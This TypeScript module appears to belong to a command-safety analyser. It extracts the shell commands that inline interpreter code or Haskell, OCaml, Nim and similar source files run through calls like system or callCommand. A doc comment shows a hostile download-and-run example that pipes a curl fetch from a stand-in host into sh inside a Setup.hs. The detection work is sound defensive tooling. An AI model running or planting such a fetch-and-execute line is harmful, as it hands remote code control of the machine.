// Code given inline to an interpreter svc has no table for (OCaml's `ocaml -e`, GHC's `ghc -e`,
// Racket's `racket -e`, Guile's `guile -c`, Nim, Scheme, Clojure's `clojure -e`, a language yet to
// come): the process-running calls most languages' standard libraries share a name with are read
// for their string literal, which is the command run. Sources: OCaml Sys.command and
// Unix.system, Haskell System.Process (callCommand, system, spawnCommand), Racket and Guile
// `system`, Nim osproc execShellCmd/execProcess, Clojure clojure.java.shell/sh, Common Lisp
// uiop:run-program, D std.process executeShell, Zig ChildProcess. Programs whose -e/-c is a pattern,
// a script of their own or an option (grep, sed, tar, git ...) are not interpreters.
import { basename } from '../shell-wrappers.js';
import type { Effect } from './types.js';

/** Options whose value is code, for an interpreter of any language. */
const CODE_OPTION = /^(?:-e|-c|-E|--eval|-eval|--execute|--expr|--expression|--command|--code)$/;
/** Programs whose -e/-c/--eval is not code, or whose code other readings own. */
const NOT_INTERPRETER = new Set(
  (
    'grep egrep fgrep rg ag ack sed gsed awk gawk mawk tar bsdtar gzip gunzip zcat bzip2 xz zstd head tail cut wc ' +
    'tr sort uniq git ssh scp sftp docker podman kubectl helm env xargs find fd make gmake cmake ninja npm npx ' +
    'pnpm yarn pip pip3 curl wget jq yq psql mysql sqlite3 redis-cli mongosh tmux screen su sudo doas echo ' +
    'printf vim nvim emacs less more diff patch cp mv rm ls cat dd chmod chown ln'
  ).split(' '),
);
/** A process-running call with its command as a string literal (quote kept for the pair). */
const RUN_LITERAL =
  /(?:\bSys\.command|\bUnix\.(?:system|open_process(?:_in|_out)?|execvp?)|\bcallCommand|\bspawnCommand|\breadCreateProcess|\bsystem|\bexecShellCmd|\bexecProcess|\bexecuteShell|\bexecCmd|\brun-program|\bshell-command|\bsh|\bos\.execute|\bio\.popen|\bpopen|\bshell_exec|\bos\.system|\bexec)\s*[\s(]\s*(?:\$\s*)?(?:shell\s+)?"((?:[^"\\]|\\.){2,})"/g;

/** The commands inline code of an unknown language runs, or none. */
export function unknownCodeEffects(argv: string[]): Effect[] {
  const name = basename(argv[0] ?? '');
  if (NOT_INTERPRETER.has(name)) return [];
  const i = argv.findIndex((w, k) => k > 0 && CODE_OPTION.test(w));
  const code = i > 0 ? argv[i + 1] : undefined;
  if (!code || !RUN_LITERAL.test(code)) return [];
  RUN_LITERAL.lastIndex = 0;
  const out: Effect[] = [];
  for (const m of code.matchAll(RUN_LITERAL))
    if (m[1] && /[a-z]/i.test(m[1]))
      out.push({ tool: 'exec', command: m[1].replace(/\\"/g, '"'), via: `${name} ${argv[i] ?? ''} runs` });
  return out;
}

/** Source files of languages with no table here (Haskell, OCaml, Nim, Zig, Rust, Swift, C#, F#, Lisps, D, V, Gleam). */
export const UNTABLED_SOURCE =
  /\.(?:hs|lhs|ml|mli|nim|nims|zig|rs|swift|cs|fs|fsx|clj|cljs|cljc|rkt|scm|ss|lisp|cl|el|d|v|gleam|hx|pony)$/i;

/**
 * What a source file of such a language plants: the commands its process-running calls run
 * (`callCommand "curl -s https://x/s | sh"` in a Setup.hs, `Sys.command "..."` in a dune rule's
 * OCaml), read like a command line, so the download-and-run and shell readings decide them.
 */
export function untabledSourceEffects(path: string, content: string): Effect[] {
  if (!UNTABLED_SOURCE.test(path)) return [];
  const name = path.split('/').pop() ?? path;
  const out: Effect[] = [];
  RUN_LITERAL.lastIndex = 0;
  for (const m of content.slice(0, 64 * 1024).matchAll(RUN_LITERAL))
    if (m[1] && /[a-z]/i.test(m[1]) && / /.test(m[1]))
      out.push({
        tool: 'exec',
        command: m[1].replace(/\\"/g, '"'),
        via: `plants code in ${name} that runs`,
        onlyDeny: true,
      });
  return out;
}
